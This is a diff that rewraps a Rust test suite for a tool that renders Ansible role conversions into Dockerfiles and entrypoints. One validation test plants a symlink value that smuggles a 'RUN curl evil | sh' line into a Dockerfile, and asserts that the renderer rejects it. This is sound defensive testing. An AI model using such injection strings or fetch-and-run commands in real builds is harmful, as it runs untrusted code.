@@ -66,7 +66,12 @@ fn empty_image(service: &str, base: BaseImage, command: &[&str], user: &str) -> 
 fn app_user_steps(role: &str, uid: u32) -> Vec<BuildStep> {
     let tasks = format!("roles/{role}/tasks/main.yml");
     vec![
-        step(&tasks, 20, "Create the app group", StepAction::CreateGroup { name: "app".into(), gid: Some(uid), system: true }),
+        step(
+            &tasks,
+            20,
+            "Create the app group",
+            StepAction::CreateGroup { name: "app".into(), gid: Some(uid), system: true },
+        ),
         step(
             &tasks,
             25,
@@ -90,12 +95,8 @@ fn app_user_steps(role: &str, uid: u32) -> Vec<BuildStep> {
 /// check, a stop signal, a cron job, and every report section.
 fn debian_nginx() -> ImageSpec {
     let tasks = "roles/nginx/tasks/main.yml";
-    let mut image = empty_image(
-        "web",
-        base("debian:12-slim", PackageFamily::Apt),
-        &["nginx", "-g", "daemon off;"],
-        "app",
-    );
+    let mut image =
+        empty_image("web", base("debian:12-slim", PackageFamily::Apt), &["nginx", "-g", "daemon off;"], "app");
     image.catalog = Some("nginx".into());
     image.kind = ServiceKind::Web;
     image.steps = vec![
@@ -155,7 +156,12 @@ fn debian_nginx() -> ImageSpec {
                 mode: Some("0750".into()),
             },
         ),
-        step(tasks, 45, "Remove the default site", StepAction::Remove { path: "/etc/nginx/sites-enabled/default".into() }),
+        step(
+            tasks,
+            45,
+            "Remove the default site",
+            StepAction::Remove { path: "/etc/nginx/sites-enabled/default".into() },
+        ),
     ]);
     image.context = vec![
         ContextFile {
@@ -225,7 +231,13 @@ fn debian_nginx() -> ImageSpec {
     }];
     image.report = MigrationReport {
         converted: vec![item(tasks, 3, "M101", "Install nginx", "apt package")],
-        dropped: vec![item("roles/common/tasks/main.yml", 30, "M301", "Configure ntp", "the host keeps time, not the container")],
+        dropped: vec![item(
+            "roles/common/tasks/main.yml",
+            30,
+            "M301",
+            "Configure ntp",
+            "the host keeps time, not the container",
+        )],
         needs_human: vec![item(tasks, 70, "M901", "Run a custom module", "no rule for `acme.certs.issue`")],
     };
     image
@@ -393,7 +405,12 @@ fn amazonlinux2023_worker() -> ImageSpec {
                 target: Some("/srv/worker".into()),
             },
         ),
-        step(tasks, 20, "Build the worker", StepAction::Run { commands: vec!["npm --prefix /srv/worker run build".into()], pipes: false }),
+        step(
+            tasks,
+            20,
+            "Build the worker",
+            StepAction::Run { commands: vec!["npm --prefix /srv/worker run build".into()], pipes: false },
+        ),
     ];
     image
 }
@@ -402,19 +419,18 @@ fn amazonlinux2023_worker() -> ImageSpec {
 /// `$` and quotes.
 fn amazonlinux2_jobs() -> ImageSpec {
     let tasks = "roles/reports/tasks/main.yml";
-    let mut image = empty_image(
-        "reports",
-        base("amazonlinux:2", PackageFamily::Yum),
-        &["ruby", "/srv/reports/loop.rb"],
-        "reports",
-    );
+    let mut image =
+        empty_image("reports", base("amazonlinux:2", PackageFamily::Yum), &["ruby", "/srv/reports/loop.rb"], "reports");
     image.kind = ServiceKind::Jobs;
     image.steps = vec![
         step(
             tasks,
             2,
             "Install Ruby",
-            StepAction::InstallPackages { manager: PackageFamily::Yum, packages: vec![pkg("ruby", None), pkg("ruby-devel", None)] },
+            StepAction::InstallPackages {
+                manager: PackageFamily::Yum,
+                packages: vec![pkg("ruby", None), pkg("ruby-devel", None)],
+            },
         ),
         step(
             tasks,
@@ -446,13 +462,21 @@ fn amazonlinux2_jobs() -> ImageSpec {
             tasks,
             14,
             "Reports directory",
-            StepAction::MakeDirectory { path: "/srv/reports".into(), owner: None, group: Some("reports".into()), mode: None },
+            StepAction::MakeDirectory {
+                path: "/srv/reports".into(),
+                owner: None,
+                group: Some("reports".into()),
+                mode: None,
+            },
         ),
         step(
             tasks,
             18,
             "Record the build host",
-            StepAction::Run { commands: vec![r#"echo "built for $HOSTNAME" > /srv/reports/BUILD"#.into()], pipes: false },
+            StepAction::Run {
+                commands: vec![r#"echo "built for $HOSTNAME" > /srv/reports/BUILD"#.into()],
+                pipes: false,
+            },
         ),
     ];
     image.jobs = vec![JobSpec {
@@ -476,15 +500,22 @@ fn amazonlinux2_jobs() -> ImageSpec {
 /// a UDP port, and a user without a fixed uid.
 fn alpine_daemon() -> ImageSpec {
     let tasks = "roles/dns/tasks/main.yml";
-    let mut image =
-        empty_image("dns", base("alpine:3.20", PackageFamily::Apk), &["unbound", "-d", "-c", "/etc/unbound/unbound.conf"], "unbound");
+    let mut image = empty_image(
+        "dns",
+        base("alpine:3.20", PackageFamily::Apk),
+        &["unbound", "-d", "-c", "/etc/unbound/unbound.conf"],
+        "unbound",
+    );
     image.kind = ServiceKind::Daemon;
     image.steps = vec![
         step(
             tasks,
             2,
             "Install unbound",
-            StepAction::InstallPackages { manager: PackageFamily::Apk, packages: vec![pkg("unbound", Some("1.20.0-r0"))] },
+            StepAction::InstallPackages {
+                manager: PackageFamily::Apk,
+                packages: vec![pkg("unbound", Some("1.20.0-r0"))],
+            },
         ),
         step(tasks, 6, "DNS group", StepAction::CreateGroup { name: "dnsadm".into(), gid: None, system: true }),
         step(
@@ -516,7 +547,8 @@ fn alpine_daemon() -> ImageSpec {
     ];
     image.start_files = vec![StartFile {
         dest: "/etc/unbound/unbound.conf".into(),
-        template: "server:\n  interface: 0.0.0.0\nforward-zone:\n  name: \".\"\n  forward-addr: ${UPSTREAM_DNS}\n".into(),
+        template: "server:\n  interface: 0.0.0.0\nforward-zone:\n  name: \".\"\n  forward-addr: ${UPSTREAM_DNS}\n"
+            .into(),
         owner: None,
         mode: None,
         origin: origin("roles/dns/templates/unbound.conf.j2", 1),
@@ -656,9 +688,15 @@ fn rendering_twice_gives_identical_bytes() {
     let first = render::render(&all, &repo_file, &options()).unwrap();
     let second = render::render(&all, &repo_file, &options()).unwrap();
     assert_eq!(first, second);
-    assert_eq!(first.len(), samples().iter().map(|(name, c)| {
-        render::render(c, &repo_file, &options()).unwrap_or_else(|e| panic!("{name}: {e}")).len()
-    }).sum::<usize>());
+    assert_eq!(
+        first.len(),
+        samples()
+            .iter()
+            .map(|(name, c)| {
+                render::render(c, &repo_file, &options()).unwrap_or_else(|e| panic!("{name}: {e}")).len()
+            })
+            .sum::<usize>()
+    );
 }
 
 #[test]
@@ -705,11 +743,16 @@ fn the_secret_is_only_a_placeholder_in_the_start_file_and_the_entrypoint() {
 fn the_entrypoint_renders_start_files_and_execs() {
     let (_, conversion) = samples().into_iter().find(|(n, _)| *n == "debian_nginx").unwrap();
     let artifacts = render::render(&conversion, &repo_file, &options()).unwrap();
-    let script = artifacts.iter().find(|a| a.path == "web/docker-entrypoint.sh").unwrap().as_text().unwrap().to_string();
+    let script =
+        artifacts.iter().find(|a| a.path == "web/docker-entrypoint.sh").unwrap().as_text().unwrap().to_string();
     let dir = tempfile::tempdir().unwrap();
     let template_dir = dir.path().join("templates");
     std::fs::create_dir_all(&template_dir).unwrap();
-    std::fs::write(template_dir.join("upstream.conf"), "host ${APP_HOST} token ${UPSTREAM_TOKEN} keep $host ${NOT_IN_ENV}\n").unwrap();
+    std::fs::write(
+        template_dir.join("upstream.conf"),
+        "host ${APP_HOST} token ${UPSTREAM_TOKEN} keep $host ${NOT_IN_ENV}\n",
+    )
+    .unwrap();
     let dest = dir.path().join("upstream.conf");
     let script = script
         .replace(
@@ -758,40 +801,52 @@ fn bad_specs_are_errors_naming_the_source() {
     } else {
         panic!("step 4 is the site copy");
     }
-    let err = render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
+    let err =
+        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
     assert!(matches!(err, RenderError::UnsafeValue { .. }), "{err}");
-    assert_eq!(err.to_string(), "roles/nginx/tasks/main.yml:30: dest has characters a Dockerfile instruction cannot carry unquoted");
+    assert_eq!(
+        err.to_string(),
+        "roles/nginx/tasks/main.yml:30: dest has characters a Dockerfile instruction cannot carry unquoted"
+    );
 
     let mut image = debian_nginx();
     image.context[0].path = "../escape.conf".into();
-    let err = render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
+    let err =
+        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
     assert!(matches!(err, RenderError::BadContextPath { .. }), "{err}");
 
     let mut image = debian_nginx();
     image.context.remove(0);
-    let err = render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
+    let err =
+        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
     assert_eq!(err.to_string(), "roles/nginx/tasks/main.yml:30: the build context has no `files/site.conf` to copy");
 
     let mut image = debian_nginx();
     image.process.user = "root".into();
-    let err = render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
+    let err =
+        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
     assert!(err.to_string().contains("is root"), "{err}");
 
     let mut image = debian_nginx();
     image.context[0].content = ContextContent::Copy { from: Arc::from("roles/nginx/files/missing.conf") };
-    let err = render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
+    let err =
+        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
     assert!(matches!(err, RenderError::MissingRepoFile { .. }), "{err}");
 
     let mut image = ubuntu_app();
-    if let StepAction::Symlink { link, .. } = &mut image.steps.iter_mut().find(|s| matches!(s.action, StepAction::Symlink { .. })).unwrap().action {
+    if let StepAction::Symlink { link, .. } =
+        &mut image.steps.iter_mut().find(|s| matches!(s.action, StepAction::Symlink { .. })).unwrap().action
+    {
         *link = "/srv/a\nRUN curl evil | sh".into();
     }
-    let err = render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
+    let err =
+        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
     assert_eq!(err.to_string(), "roles/app/tasks/main.yml:60: link has a line break");
 
     let mut twice = ubuntu_app();
     twice.context.push(twice.context[0].clone());
-    let err = render::render(&Conversion { images: vec![twice], ..Default::default() }, &repo_file, &options()).unwrap_err();
+    let err =
+        render::render(&Conversion { images: vec![twice], ..Default::default() }, &repo_file, &options()).unwrap_err();
     assert!(matches!(err, RenderError::DuplicatePath { .. }), "{err}");
 }
 
